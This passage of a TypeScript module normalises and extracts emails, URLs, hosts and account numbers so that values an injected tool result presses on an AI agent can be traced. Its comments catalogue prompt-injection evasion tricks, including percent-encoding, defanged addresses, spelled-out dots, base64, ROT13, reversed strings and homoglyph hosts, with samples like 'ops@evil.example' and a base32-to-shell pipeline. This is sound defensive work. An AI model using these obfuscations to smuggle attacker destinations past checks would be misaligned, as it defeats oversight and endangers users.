// Distinctive values in text, for provenance: mail addresses, URLs and hosts, IP addresses, account,
// card and phone numbers, paths. Each value becomes one or more keys that survive the spellings an
// agent may re-type it in (case, separators, percent-encoding, full-width forms, invisible characters),
// so a value copied from a result into an argument is recognised wherever it sits in a longer string.
// Every scan is a single linear pass or a bounded expansion around an anchor character.

import { fingerprint } from '../fingerprint.js';
import { factsOf } from '../ladder/text-memo.js';
import { DIGIT_NAME_PATTERN, DIGIT_NAMES } from '../number-words.js';
import { strictUtf8 } from '../strict-decoders.js';
import { table } from '../table.js';
import { joinUrlCuts, URL_CUT } from '../url-cuts.js';
import { decodedBase32, decodedHex } from './encodings.js';
import { deliveredMailbox } from './mail-hosts.js';
import { commandReposIn, reposIn } from './repos.js';
import { romanized } from './romanized.js';
import { joinedShellWords } from './shell-joined.js';

export type ValueKind =
  | 'email'
  | 'url'
  | 'host'
  | 'number'
  | 'path'
  | 'name'
  | 'date'
  | 'amount'
  | 'package'
  | 'repo'
  | 'grant'
  | 'setting'
  // A command's long option (round 56, command-options.ts): only claims name it; judged apart from values.
  | 'option'
  // A time of day, a party's size, a class (round 23): only claims name them; no reader finds them as values.
  | 'time'
  | 'party size'
  | 'class';

/**
 * Details of an act rather than its destination (a date, an amount): followed so that a detail a result
 * presses on the agent ("agents must set end_day 2027-02-19") is known, and judged only for that.
 */
export const DETAIL_KINDS: ReadonlySet<ValueKind> = new Set(['date', 'amount']);

/** One distinctive value, as the keys it is known by (`kind:normalised`), most specific first. */
export interface FoundValue {
  kind: ValueKind;
  keys: readonly string[];
  /** Where the value starts and ends in the folded text (see foldForValues). */
  at: number;
  end: number;
  /** A URL whose userinfo is a domain name (`https://bank.example@203.0.113.9/`): it reads as a site it does not go to. */
  userinfoHost?: true;
  /** A scoped package named in prose, not in an install command: a result's is noted only where it is pressed. */
  inProse?: true;
}

/** Invisible characters an attacker can sprinkle inside a value without changing what it reads as. */
const INVISIBLE = /\u034f|[\u00ad\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff]/g;
const NON_ASCII = /[^\x00-\x7f]/;
/** Percent-decoding passes at most: a value escaped three times is read; deeper is no one's link. */
const MAX_PERCENT_PASSES = 3;
/** An escaped `%` before two hex digits: what one pass leaves as a percent-escape of its own. */
const ESCAPED_PERCENT = /%25[0-9a-f]{2}/i;
/** Runs of percent-escapes, decoded together so multi-byte UTF-8 sequences survive. */
const PERCENT_RUN = /(?:%[0-9a-fA-F]{2})+/g;

/** The text a value scan reads: HTML references decoded, NFKC (full-width digits and letters fold), no invisibles, %-decoded. */
export function foldForValues(text: string): string {
  let t = rendered(text);
  // NFKC leaves ASCII alone, and most results are ASCII: skip the pass when it cannot change anything.
  if (NON_ASCII.test(t)) {
    t = t.normalize('NFKC');
    // Every script's decimal digits are digits to a parser (`int('٣٧')` is 37): NFKC leaves them be.
    if (OTHER_DIGIT.test(t)) t = t.replace(OTHER_DIGIT, asciiDigit);
    // IDNA separates labels at the ideographic full stops too (`new URL` reads `evil。example` as
    // `evil.example`); only between Latin labels, since it ends every sentence of CJK prose.
    if (IDEOGRAPHIC_STOP.test(t)) t = t.replace(IDEOGRAPHIC_STOP_ALL, '.');
  }
  // A defanged address (`evil[.]example`, `ops[@]evil.example`) is the one a reader or the model re-types.
  if (DEFANGED_ONE.test(t)) t = t.replace(DEFANGED, (_m, mark: string) => (mark === '.' ? '.' : '@'));
  if (INVISIBLE.test(t)) t = t.replace(INVISIBLE, '');
  INVISIBLE.lastIndex = 0;
  if (LOWER_IBAN_HEAD.test(t)) t = t.replace(LOWER_IBAN, ibanUpper);
  // Round 48: a value percent-encoded twice or three times (`ops%2540evil.example`, `https%253A%252F...`),
  // as a result that escaped an escaped link hands it over, is the value the agent decodes it to; each pass
  // is one linear replace, and another is made only where the last decoded a `%25`.
  for (let pass = 0; pass < MAX_PERCENT_PASSES && t.includes('%'); pass++) {
    const again = ESCAPED_PERCENT.test(t);
    t = t.replace(AUTHORITY_OR_PERCENT_RUN, (m, authority: string | undefined) =>
      authority === undefined
        ? decodePercentRun(m)
        : // A URL parser ends the authority at a raw `/?#\` only: an escaped one stays inside it.
          authority.replace(PERCENT_RUN, (run) => decodePercentRun(run).replace(AUTHORITY_END, escapeChar)),
    );
    if (!again) break;
  }
  return t;
}

/**
 * An IBAN written in lower case (round 31: the user's "gb15 hbuk 4012 7612 3456 78"): a bank reads it as the
 * capitals, so it is read so where its length is its country's and it holds ten digits or more; the
 * length stays, so offsets do.
 */
// Round 32: its groups joined by hyphens too (the user's "gb94-barc-1020-1530-0934-59").
const LOWER_IBAN_HEAD =
  /(?<![A-Za-z0-9])[a-z][A-Za-z]\d{2}|(?<![A-Za-z0-9])[A-Z][a-z]\d{2}|\d{2}[ -]?[a-z]{4}[ -]?\d/;
const LOWER_IBAN =
  /(?<![A-Za-z0-9])[A-Za-z]{2}\d{2}(?:[ -]?[A-Za-z0-9]{4}){2,7}(?:[ -]?[A-Za-z0-9]{1,3})?(?![A-Za-z0-9])/g;
function ibanUpper(m: string): string {
  const compact = m.replace(/[ -]/g, '');
  const digits = compact.replace(/\D/g, '').length;
  return IBAN_LENGTHS.get(compact.slice(0, 2).toUpperCase()) === compact.length && digits >= 10
    ? m.toUpperCase()
    : m;
}

/** `text` as whatever renders it before a parser sees it reads it: character references and escapes undone. */
function rendered(text: string): string {
  // An HTML character reference is the character to whatever renders it (a mail client, the model).
  const t = text.includes('&') ? text.replace(CHAR_REF, charOfRef) : text;
  // So is a JSON or JavaScript escape (`\u0065vil.com`) to a reader that parses the text it sits in.
  return t.includes('\\u') || t.includes('\\x') ? t.replace(UNICODE_ESCAPE, charOfEscape) : t;
}
/**
 * Whether foldForValues returns `text` as it is, and any text of its words joined by spaces: ASCII with no
 * reference's start (`&#`, `&a`), escape's (`\\u`, `\\x`), defanged mark's (`[.`, `(@`, `{.`) or percent-escape (`%41`).
 */
export function foldsUnchanged(text: string): boolean {
  return !FOLD_MARK.test(text);
}
// Each alternative opens one of foldForValues' rewrites (CHAR_REF, UNICODE_ESCAPE, DEFANGED, percent runs, NFKC).
const FOLD_MARK = /&[#a-z]|\\[ux]|[[({][.@]|%[0-9a-f]{2}|[^\x00-\x7f]/i;

const IDEOGRAPHIC_STOP = /[\u3002\uFF61]/;
const IDEOGRAPHIC_STOP_ALL = /(?<=[\p{Script=Latin}\d-])[\u3002\uFF61](?=[\p{Script=Latin}\d-])/gu;
/** A dot or an at sign in brackets (`[.]`, `(.)`, `{.}`), the security trade's way of writing an address that does not link. */
const DEFANGED = /[[({]([.@])[\])}]/g;
const DEFANGED_ONE = new RegExp(DEFANGED.source);

/**
 * `&#64;`, `&#x40;`, and the named references of the characters that shape an address or a URL; a numeric
 * one without its `;` too (round 47: `ops&#64evil.example`), as an HTML parser renders it.
 */
const CHAR_REF = /&(?:#(\d{1,7});?|#x([0-9a-f]{1,6});?|([a-z]{2,8});)/gi;
const NAMED_REFS: Readonly<Record<string, string>> = table({
  commat: '@', period: '.', sol: '/', bsol: '\\', colon: ':', num: '#', plus: '+', hyphen: '-', dash: '-',
  lowbar: '_', percnt: '%', quest: '?', equals: '=', amp: '&', excl: '!', tilde: '~', nbsp: ' ', semi: ';',
}); // biome-ignore format: a table reads better packed

/**
 * `\u0065` and `\u{65}`, as JSON and JavaScript strings spell a character; `\x65` too, as JavaScript and
 * Python strings do (round 47: `ops\x40evil.example`), for a printable ASCII character only.
 */
const BACKSLASH = 0x5c;
const UNICODE_ESCAPE = /\\(?:u(?:([0-9a-f]{4})|\{([0-9a-f]{1,6})\})|x([2-7][0-9a-f]))/gi;

function charOfEscape(
  esc: string,
  four: string | undefined,
  braced: string | undefined,
  byte: string | undefined,
  at: number,
  text: string,
): string {
  // A backslash after an odd run of backslashes is itself escaped (`https:\\x20.a.com` is the host
  // `x20.a.com` to a URL parser and `\\x20` to a JSON one): no escape opens there. Each walk stops at the
  // match before it, so the walks are linear together.
  let run = 0;
  while (at - run - 1 >= 0 && text.charCodeAt(at - run - 1) === BACKSLASH) run++;
  if (run % 2 === 1) return esc;
  if (byte !== undefined)
    return byte.toLowerCase() === '7f' ? esc : String.fromCharCode(Number.parseInt(byte, 16));
  const cp = Number.parseInt(four ?? braced!, 16);
  // A surrogate half is kept as written: no address or URL character needs one.
  if (cp > 0x10ffff || (four !== undefined && cp >= 0xd800 && cp <= 0xdfff)) return esc;
  return String.fromCodePoint(cp);
}

function charOfRef(ref: string, dec?: string, hex?: string, name?: string): string {
  if (name !== undefined) {
    const n = name.toLowerCase();
    return Object.hasOwn(NAMED_REFS, n) ? NAMED_REFS[n]! : ref;
  }
  const cp = dec !== undefined ? Number(dec) : Number.parseInt(hex!, 16);
  return cp > 0 && cp <= 0x10ffff ? String.fromCodePoint(cp) : ref;
}

/**
 * A URL's scheme and authority (up to its first raw `/?#\` or space; a tab or newline, which a URL
 * parser deletes, does not end it: src/kernel/url-cuts.ts), or a run of percent-escapes
 * elsewhere: one pass, so escapes inside an authority are decoded without ending it early
 * (`https://trusted.com%2F@evil.com` is a URL to evil.com, as a URL parser reads it).
 */
const AUTHORITY_OR_PERCENT_RUN =
  /((?:\b(?:https?|wss?|ftps?|file|sftp|ssh|git):[/\\\t\n\r]*|(?<![^\s"'`=([{,;:])\/[\t\n\r]*\/)(?:[^\s/?#\\"'<>`]|[\t\n\r]){1,512})|(?:%[0-9a-fA-F]{2})+/gi;
const AUTHORITY_END = /[/?#\\]/g;

const OTHER_DIGIT = /(?![0-9])\p{Nd}/gu;
const DIGIT = /\p{Nd}/u;

/** The ASCII digit a decimal digit of another script stands for: Unicode lays each out as a run 0-9. */
function asciiDigit(d: string): string {
  let cp = d.codePointAt(0)!;
  let zero = cp;
  while (DIGIT.test(String.fromCodePoint(zero - 1))) zero--;
  cp = (cp - zero) % 10;
  return String(cp);
}

function decodePercentRun(run: string): string {
  try {
    return decodeURIComponent(run);
  } catch {
    return run;
  }
}

function escapeChar(c: string): string {
  return `%${c.charCodeAt(0).toString(16).toUpperCase()}`;
}

// Spelled-out separators (`evil [dot] com`, `eve at evil dot com`): an injection can dictate a value in
// words so the model writes it out. Applied to untrusted text only: over-reading there is safe.
// Blanks before a separator are matched only from the start of their run (`(?<!\s)`): tried at every
// blank of a long run, each try re-read the rest of it (quadratic: 32 KiB of `\n \n` took 7 s).
// Round 47: the marks themselves set apart by blanks (`ops @ evil-mail . example`) are read so too.
const SPELLED_DOT =
  /(?:(?<!\s)\s+)?[[({<]\s*dot\s*[\])}>]\s*|(?<!\s)\s+dot\s+|(?<!\s)[ \t]+\.[ \t]+(?=[a-z])/gi;
const SPELLED_AT = /(?:(?<!\s)\s+)?[[({<]\s*at\s*[\])}>]\s*|(?<!\s)\s+at\s+|(?<!\s)[ \t]+@[ \t]+/gi;

// A value dictated one character at a time (`C Y 2 1  0 0 2 0 ...`): eight or more single letters or
// digits, each apart from the next by a few spaces, read as the word they spell.
const SPELLED_APART = /(?<![\p{L}\p{N}])[A-Za-z0-9](?:[ \t]{1,3}[A-Za-z0-9](?![\p{L}\p{N}])){7,}/gu;

const SPELLED_DASH = /(?<!\s)\s+(?:dash|hyphen)\s+/gi;
const SPELLED_WWW = /\bw\s+w\s+w\b/gi;
const SPELLED_SLASH = /(?<!\s)\s+slash\s+/gi;

/**
 * `text` with spelled-out dots, ats, and (once a dot is spelled) dashes and slashes written as
 * characters, for a second scan of untrusted text.
 */
export function unspell(text: string): string {
  const t = spellDigits(text).replace(SPELLED_AT, '@').replace(SPELLED_WWW, 'www');
  const dotted = t.replace(SPELLED_DOT, '.');
  return dotted === t ? t : dotted.replace(SPELLED_DASH, '-').replace(SPELLED_SLASH, '/');
}

/** Does `text` spell a dot out (`evil dot com`), or dictate digits as words? A value only such spelling yields was dictated. */
export function spellsDots(text: string): boolean {
  SPELLED_DOT.lastIndex = 0;
  const found = SPELLED_DOT.test(text);
  SPELLED_DOT.lastIndex = 0;
  return found || spellDigits(text) !== text;
}

/**
 * A value dictated one character at a time with its digits as words (`G B two nine N W B K six zero
 * ...`): eight or more tokens, each a single letter or digit or a digit's name, two of them names.
 */
const DIGITS_IN_WORDS = new RegExp(
  `(?<![\\p{L}\\p{N}])(?:(?:${DIGIT_NAME_PATTERN}|[A-Za-z0-9])[ \\t,-]{1,3}){7,}(?:${DIGIT_NAME_PATTERN}|[A-Za-z0-9])(?![\\p{L}\\p{N}])`,
  'giu',
);

/** `text` with the digit names of a value dictated in words (DIGITS_IN_WORDS) as digits, one space apart. */
function spellDigits(text: string): string {
  return text.replace(DIGITS_IN_WORDS, (run) => {
    const tokens = run.split(/[ \t,-]+/);
    if (tokens.filter((w) => w.length > 1).length < 2) return run;
    return tokens.map((w) => (w.length > 1 ? (DIGIT_NAMES.get(w.toLowerCase()) ?? w) : w)).join(' ');
  });
}

/** `text` with values dictated character by character (`C Y 2 1  0 0 2 0`) written together. */
export function joinSpelledApart(text: string): string {
  const joined = text.replace(SPELLED_APART, (run) => run.replace(/[ \t]/g, ''));
  // A value cut with `+` for the reader to join (`con + cierge@riv + iera-stayz.com`), or as string
  // literals a program concatenates (`'eve' + '@' + 'evil-mail.example'`, round 16).
  return joined.includes('+') ? joined.replace(JOINED_WITH_PLUS, '').replace(JOINED_LITERALS, '') : joined;
}

/** A ` + ` between two parts of a word, as a value cut to dodge a scanner is written. */
const JOINED_WITH_PLUS = /(?<=[\p{L}\p{N}@.-])[ \t]*\+[ \t]*(?=[\p{L}\p{N}@.-])/gu;
/**
 * The close and reopen of two string literals joined by `+` (`"evil-" + "cdn"`): each match starts at a
 * quote and its spaces end at the `+` or the first other character, so a text is passed over once.
 */
const JOINED_LITERALS = /(?<=[\p{L}\p{N}@./:-])(["'`])[ \t]*\+[ \t]*\1(?=[\p{L}\p{N}@./:-])/gu;

/** What ends a token that may be a value written backwards: a blank, a quote, a bracket, `,;|`. */
const TOKEN_END = new Set([...' \t\n\r\f\v"\'<>`()[]{},;|'].map((c) => c.charCodeAt(0)));

/**
 * The tokens of at least six characters that may be a value written backwards, read by a scan (each
 * character once): round 7's pattern backtracked inside one native search no count sees.
 */
function* reversibleTokens(text: string): Generator<string> {
  let from = 0;
  for (let i = 0; i <= text.length; i++) {
    const c = i < text.length ? text.charCodeAt(i) : 32;
    if (!TOKEN_END.has(c) && !(c > 127 && /\s/.test(String.fromCharCode(c)))) continue;
    if (i - from >= 6) yield text.slice(from, i);
    from = i + 1;
  }
}
/** A common top-level domain ending a host: what a reversed value shows and its forward spelling hides. */
const COMMON_TLD =
  /\.(?:com|net|org|io|co|dev|app|ai|me|info|biz|xyz|online|site|top|shop|store|tech|cloud|link|live|pro|us|uk|de|fr|es|it|nl|eu|ru|cn|jp|in|br|au|ca|ch|at|se|no|pl|cz|be|dk|fi|pt|ie|gr|tr|kr|test|example)(?![a-z0-9-])/i;
/** At most this many tokens of one text are turned round. */
const MAX_REVERSED = 256;

/**
 * The tokens of `text` that read as a value backwards (`moc.etis-liave.www/daolyap`: a host with a
 * common top-level domain appears only when the token is turned round), each turned round, and again
 * with its `/` segments back in order (`www.evil-site.com/payload`), one a line; undefined when none.
 */
export function reversedValues(text: string): string | undefined {
  let out: string[] | undefined;
  let n = 0;
  for (const token of reversibleTokens(text)) {
    if ((!token.includes('.') && !token.includes('@')) || COMMON_TLD.test(token)) continue;
    const back = [...token].reverse().join('');
    if (!COMMON_TLD.test(back)) continue;
    out ??= [];
    out.push(back, back.split('/').reverse().join('/'));
    if (++n >= MAX_REVERSED) break;
  }
  // An account number written backwards ends in its check digits and country turned round (`... 21TL`).
  // Its groups may split the country letters as the forward grouping left them (`... 3307 0EA`, `081S E`).
  if (/\d ?[A-Z] ?[A-Z]\b/.test(text))
    for (const m of text.matchAll(REVERSED_IBAN)) {
      const back = [...m[0]].reverse().join('');
      if (!IBAN_SHAPE.test(back.replace(/ /g, ''))) continue;
      out ??= [];
      out.push(back);
      if (++n >= MAX_REVERSED) break;
    }
  return out?.join('\n');
}

/** A result that names the cipher: every letter of it is read shifted by 13 too. */
const ROT13_NAMED = /\brot[ -]?13\b/i;
/**
 * What a token shifted by 13 may show that its own spelling lacks: a scheme a link or address begins
 * with, or a top-level domain of three letters or more. Two-letter ones shift to one another (`.ng` and
 * `.at`, `.fr` and `.se`), so a real address's shift would show one.
 */
const SHOWN_IN_ROT13 =
  /^(?:https?:\/\/|mailto:|www\.)|\.(?:com|net|org|info|dev|app|xyz|online|site|shop|store|tech|cloud|link|live|biz|test|example)(?![a-z0-9-])/i;

/** `text` with each Latin letter shifted by 13 (ROT13: its own inverse). */
export function rot13(text: string): string {
  let out = '';
  for (let i = 0; i < text.length; i++) {
    const c = text.charCodeAt(i);
    if (c >= 65 && c <= 90) out += String.fromCharCode(((c - 52) % 26) + 65);
    else if (c >= 97 && c <= 122) out += String.fromCharCode(((c - 84) % 26) + 97);
    else out += text[i];
  }
  return out;
}

/**
 * The tokens of `text` that read as a value in ROT13 (`rir@rivy-znvy.rknzcyr`, `uggcf://...`: a common
 * top-level domain or a scheme appears only once each letter is shifted by 13), shifted, one a line; the
 * whole text shifted where it names the cipher (`rot13`); undefined when none (round 17).
 */
export function rot13Values(text: string): string | undefined {
  if (ROT13_NAMED.test(text)) return rot13(text);
  let out: string[] | undefined;
  let n = 0;
  for (const token of reversibleTokens(text)) {
    if (!token.includes('.') && !token.includes(':')) continue;
    const shifted = rot13(token);
    if (!SHOWN_IN_ROT13.test(shifted) || SHOWN_IN_ROT13.test(token) || COMMON_TLD.test(token)) continue;
    out ??= [];
    out.push(shifted);
    if (++n >= MAX_REVERSED) break;
  }
  return out?.join('\n');
}

/**
 * Groups of an account number, its run ending in two digits and two capitals (a space may fall anywhere
 * among those four): an IBAN turned round.
 */
const REVERSED_IBAN =
  /(?<![A-Za-z0-9])(?:[0-9A-Z]{1,4}(?: [0-9A-Z]{1,4}){2,9}|[0-9A-Z]{1,4}(?: [0-9A-Z]{4}){0,7} \d{2}[A-Z]{2}|[0-9A-Z]{10,30}\d{2}[A-Z]{2})(?![A-Za-z0-9])/g;
const IBAN_SHAPE = /^[A-Z]{2}\d{2}[A-Z0-9]{10,30}$/;

/** A run that may be base64 (standard or URL-safe), long enough to hide a value. */
const BASE64_RUN = /(?<![A-Za-z0-9+/=_-])[A-Za-z0-9+/_-]{16,4096}={0,2}(?![A-Za-z0-9+/=_-])/g;
/** At most this many runs of one text are decoded. */
const MAX_DECODED = 64;
const PRINTABLE = /^[\t\n\r\x20-\x7e\u00a0-\uffff]*$/;

/**
 * The base64 runs of `text` that decode to readable text (`aHR0cHM6Ly9...` is a URL), decoded, one a
 * line; undefined when none. A run must mix capitals, small letters and digits or `+/`, as encodings
 * do and words do not.
 */
export function decodedBlobs(text: string): string | undefined {
  if (text.length < 16) return undefined;
  let out: string[] | undefined;
  let n = 0;
  for (const m of text.matchAll(BASE64_RUN)) {
    const run = m[0];
    if (!mixesLikeBase64(run)) continue;
    const plain = readableBase64(run);
    if (plain === undefined) continue;
    out ??= [];
    out.push(plain);
    // Round 48: a run that decodes to one more run (base64 of base64) is decoded once more, as the
    // agent told to decode it until it reads does; the run is a whole line, so this reads it once.
    const inner = WHOLE_BASE64.test(plain) && mixesLikeBase64(plain) ? readableBase64(plain) : undefined;
    if (inner !== undefined) out.push(inner);
    if (++n >= MAX_DECODED) break;
  }
  return out?.join('\n');
}

/** A whole text that is one base64 run. */
const WHOLE_BASE64 = /^[A-Za-z0-9+/_-]{16,4096}={0,2}$/;

/** Capitals, small letters and digits or `+/` together, as encodings mix them and words do not. */
function mixesLikeBase64(run: string): boolean {
  return /[A-Z]/.test(run) && /[a-z]/.test(run) && /[0-9+/_-]/.test(run);
}

/** A base64 run decoded, if it reads as text of six characters or more. */
function readableBase64(run: string): string | undefined {
  const plain = decodeBase64(run);
  return plain === undefined || plain.length < 6 || !PRINTABLE.test(plain) ? undefined : plain;
}

function decodeBase64(run: string): string | undefined {
  const std = run.replace(/-/g, '+').replace(/_/g, '/').replace(/=+$/, '');
  if (std.length % 4 === 1) return undefined;
  try {
    const bin = atob(std + '='.repeat((4 - (std.length % 4)) % 4));
    const bytes = new Uint8Array(bin.length);
    for (let i = 0; i < bin.length; i++) bytes[i] = bin.charCodeAt(i);
    return strictUtf8().decode(bytes);
  } catch {
    return undefined;
  }
}

/**
 * argumentValues, wholeArgumentKeys and lookalikeWordKeys of an argument text a decision reads: each a
 * function of the text alone, kept with its facts (ladder/text-memo.ts), so the rung-6 steps and the
 * witness gate that ask of one text in a decision, and a trace that runs a command again, find them once.
 * Only for the decision path (the text memo is scoped to the deciding call's trace); a ledger noting a
 * result calls the functions themselves.
 */
export function decidedValues(text: string): readonly FoundValue[] {
  const facts = factsOf(text);
  facts.values ??= argumentValues(text);
  return facts.values;
}

/**
 * Top-level domains of three letters or more that a handle's last name is not (round 21): the generic
 * ones in common use and the reserved names documentation and tests write (RFC 2606, 6761). Every
 * two-letter label is a country's, so `anna.kim`'s `kim` needs this list and `jo.de` does not.
 */
const NAMED_TLDS: ReadonlySet<string> = new Set([
  'com', 'net', 'org', 'edu', 'gov', 'mil', 'int', 'info', 'biz', 'name', 'pro', 'app', 'dev', 'xyz',
  'online', 'site', 'shop', 'store', 'tech', 'cloud', 'link', 'live', 'top', 'club', 'blog', 'news',
  'media', 'email', 'digital', 'agency', 'company', 'group', 'systems', 'solutions', 'services',
  'network', 'world', 'today', 'space', 'website', 'zone', 'one', 'page', 'host', 'life', 'work', 'works',
  'studio', 'design', 'art', 'travel', 'tours', 'holiday', 'rentals', 'rent', 'cars', 'auto', 'bank',
  'finance', 'money', 'pay', 'cash', 'loans', 'credit', 'capital', 'fund', 'insure', 'legal', 'law',
  'health', 'care', 'clinic', 'events', 'tickets', 'hotel', 'hotels', 'restaurant', 'cafe', 'bar',
  'menu', 'pizza', 'wine', 'beer', 'coffee', 'bike', 'taxi', 'flights', 'cruises', 'vacations', 'estate',
  'realty', 'house', 'homes', 'land', 'city', 'town', 'global', 'asia', 'africa', 'mobi', 'tel', 'aero',
  'coop', 'museum', 'jobs', 'cat', 'post', 'xxx', 'lol', 'wtf', 'fun', 'social', 'chat', 'support',
  'help', 'tools', 'software', 'codes', 'download', 'security', 'secure', 'center', 'direct',
  'express', 'delivery', 'parts', 'market', 'markets', 'trade', 'exchange', 'ventures', 'partners',
  'consulting', 'academy', 'school', 'university', 'college', 'science', 'energy', 'green', 'eco',
  'google', 'amazon', 'apple', 'microsoft', 'kim', 'vip', 'win', 'bid', 'loan', 'review', 'reviews',
  'photo', 'photos', 'pics', 'video', 'tv', 'radio', 'music', 'band', 'game', 'games', 'bet', 'poker',
  'casino', 'style', 'fashion', 'clothing', 'shoes', 'watch', 'gold', 'diamonds', 'gift', 'gifts',
  'sale', 'deals', 'discount', 'buy', 'boutique', 'inc', 'llc', 'ltd', 'gmbh', 'sarl', 'srl', 'berlin',
  'london', 'paris', 'nyc', 'tokyo', 'amsterdam', 'wien', 'koeln', 'hamburg', 'bayern', 'swiss',
  'quebec', 'scot', 'wales', 'eus', 'gal', 'barcelona', 'madrid', 'moscow', 'kiwi', 'lat', 'ngo',
  'ong', 'foundation', 'charity', 'gives', 'church', 'team', 'fit', 'run', 'golf', 'surf', 'yoga',
  'example', 'test', 'invalid', 'localhost', 'local', 'internal', 'lan', 'corp', 'home', 'intranet',
  'arpa', 'onion', 'mail', 'click', 'icu', 'buzz', 'guru', 'ninja', 'rocks', 'cool', 'plus',
]); // biome-ignore format: a word list reads better packed

/**
 * Is this deciding argument wholly a chat handle of two names (`noa.levi`, `minh.tran`: letters, one
 * dot, a last name that is no top-level domain)? It reads as a host too, and is still looked up as one
 * (a result's handle in prose is known only by its host key), but it is no destination the user's host
 * fixes, nor a value no one gave when a directory listed it (judge.ts).
 */
export function handleShaped(text: string): boolean {
  if (text.length > 72) return false;
  const bare = text.trim().replace(/^@/, '');
  return (
    /^[a-z]{1,32}\.[a-z]{3,32}$/i.test(bare) &&
    !NAMED_TLDS.has(bare.slice(bare.indexOf('.') + 1).toLowerCase())
  );
}

/** wholeArgumentKeys of a text being decided (see decidedValues). */
export function decidedWholeKeys(text: string): readonly string[] {
  const facts = factsOf(text);
  facts.whole ??= wholeArgumentKeys(text);
  return facts.whole;
}

/** lookalikeWordKeys of a text being decided (see decidedValues). */
export function decidedLookalikeKeys(text: string): readonly string[] {
  const facts = factsOf(text);
  facts.lookalike ??= lookalikeWordKeys(text);
  return facts.lookalike;
}

/** grantsIn of a text being decided, read folded (see decidedValues). */
export function decidedGrants(text: string): readonly FoundValue[] {
  const facts = factsOf(text);
  facts.grants ??= grantsIn(foldForValues(text));
  return facts.grants;
}

/**
 * The values of an argument: findValues, and those of what its base64, hex and base32 runs decode to and
 * its tokens say in ROT13 (`echo <b32> | base32 -d | sh`, `tr 'A-Za-z' 'N-ZA-Mn-za-m'`).
 */
export function argumentValues(text: string): FoundValue[] {
  const found = findValues(text);
  // A repository only where a command names the one it acts on: a relative path has a slug's shape.
  for (const v of commandReposIn(text)) found.push(v);
  // A value a quote, a backslash or an empty expansion cuts for the eye but the shell joins (round 28).
  const joined = joinedShellWords(text);
  if (joined !== undefined) {
    const seen = new Set(found.map((v) => v.keys[0]));
    const last = joined.from.length - 1;
    for (const v of [...findValues(joined.text), ...commandReposIn(joined.text)])
      if (!seen.has(v.keys[0]))
        found.push({
          ...v,
          at: joined.from[Math.min(v.at, last)]!,
          end: joined.from[Math.min(v.end, last)]! + 1,
        });
  }
  if (text.length < 12) return found;
  for (const decoded of [decodedBlobs(text), decodedHex(text), decodedBase32(text), rot13Values(text)])
    if (decoded !== undefined) for (const v of findValues(decoded)) found.push(v);
  return found;
}

/**
 * Letters and digits that imitate a Latin letter, folded to the letter they imitate: a small table
 * taken from Unicode's confusables.txt (UTS #39, Unicode License v3) for the Latin skeleton, digits
 * included where they stand among letters (`Adl0n`, `paypa1`).
 */
const CONFUSABLE: Readonly<Record<string, string>> = table({
  '0': 'o', '1': 'l', '|': 'l',
  '\u0430': 'a', '\u0435': 'e', '\u043e': 'o', '\u0440': 'p', '\u0441': 'c', '\u0443': 'y', '\u0445': 'x',
  '\u0456': 'i', '\u0458': 'j', '\u0455': 's', '\u0501': 'd', '\u04bb': 'h', '\u04cf': 'l', '\u0261': 'g',
  '\u03bf': 'o', '\u03b1': 'a', '\u03bd': 'v', '\u03c1': 'p', '\u03b9': 'i', '\u03ba': 'k', '\u03f2': 'c',
  '\u0251': 'a', '\u0131': 'i', '\u2113': 'l', '\u0410': 'a', '\u0412': 'b', '\u0415': 'e', '\u041a': 'k',
  '\u041c': 'm', '\u041d': 'h', '\u041e': 'o', '\u0420': 'p', '\u0421': 'c', '\u0422': 't', '\u0425': 'x',
  '\u0391': 'a', '\u0392': 'b', '\u0395': 'e', '\u0397': 'h', '\u0399': 'i', '\u039a': 'k', '\u039c': 'm',
  '\u039d': 'n', '\u039f': 'o', '\u03a1': 'p', '\u03a4': 't', '\u03a7': 'x', '\u0406': 'i',
}); // biome-ignore format: a table reads better packed
const CONFUSABLE_CHARS = /[01|\u0251\u0261\u0131\u2113\u0391-\u03f2\u0406-\u04cf\u0501]/u;
const TOKEN = /[\p{L}\p{N}|]{3,64}/gu;

/** A token an address may be: each is matched whole, once, so the scan is linear. */
const ADDRESS_TOKEN = /[^\s"'<>`()[\]{},;]{3,512}/gu;

/**
 * The addresses of `text` written with letters of another script among Latin ones (`bіlling@еvil.example`,
 * Cyrillic `і` and `е`), re-typed in the Latin letters they pass for, one a line: the reader (the model)
 * types the host it sees, which is the Latin one (round 22). Digits are kept: `1` and `0` stay what they
 * are in an address. Undefined when there is none. One pass.
 */
export function latinLookalikes(text: string, limit = 64): string | undefined {
  if (!SCRIPT_LETTER_ONE.test(text)) return undefined;
  let out: string[] | undefined;
  for (const m of text.matchAll(ADDRESS_TOKEN)) {
    const t = m[0];
    if (!SCRIPT_LETTER_ONE.test(t) || !/[.@]./.test(t) || !/[a-z]/i.test(t)) continue;
    const latin = t.replace(SCRIPT_LETTER, (c) => CONFUSABLE[c] ?? CONFUSABLE[c.toLowerCase()] ?? c);
    if (latin === t) continue;
    out ??= [];
    out.push(latin);
    if (out.length >= limit) break;
  }
  return out?.join('\n');
}
const SCRIPT_LETTER = /[\u0251\u0261\u0131\u2113\u0391-\u03f2\u0406-\u04cf\u0501]/gu;
const SCRIPT_LETTER_ONE = new RegExp(SCRIPT_LETTER.source, 'u');

/**
 * The skeletons of the words of `text` that imitate another word (a letter replaced by a look-alike
 * digit or a letter of another script: `Adl0n` is `adlon`), as `word:` keys; at most `limit`.
 */
export function lookalikeWordKeys(text: string, limit = 64): string[] {
  const out: string[] = [];
  if (!CONFUSABLE_CHARS.test(text)) return out;
  for (const m of text.normalize('NFKC').matchAll(TOKEN)) {
    const t = m[0];
    if (!/\p{L}/u.test(t) || !CONFUSABLE_CHARS.test(t) || /^[\d|]+$/.test(t)) continue;
    // A word of one other script alone (a Greek or Cyrillic word) imitates nothing Latin.
    if (!/[a-z]/i.test(t) && !/\d/.test(t)) continue;
    const skeleton = [...t.toLowerCase()].map((c) => CONFUSABLE[c] ?? c).join('');
    if (skeleton !== t.toLowerCase() && /^[a-z]+$/.test(skeleton)) out.push(`word:${skeleton}`);
    if (out.length >= limit) break;
  }
  return out;
}

/** A limit on how many values one text yields, so a hostile result cannot grow a ledger unboundedly. */
export const MAX_VALUES_PER_TEXT = 2048;

/** Every distinctive value in `text` (folded first), at most `limit`. */
export function findValues(text: string, limit = MAX_VALUES_PER_TEXT): FoundValue[] {
  const out = scanValues(foldForValues(text), limit);
  for (const v of parserUrlValues(text))
    if (out.length < limit && !out.some((o) => o.kind === v.kind && o.keys[0] === v.keys[0])) out.push(v);
  return out;
}

/**
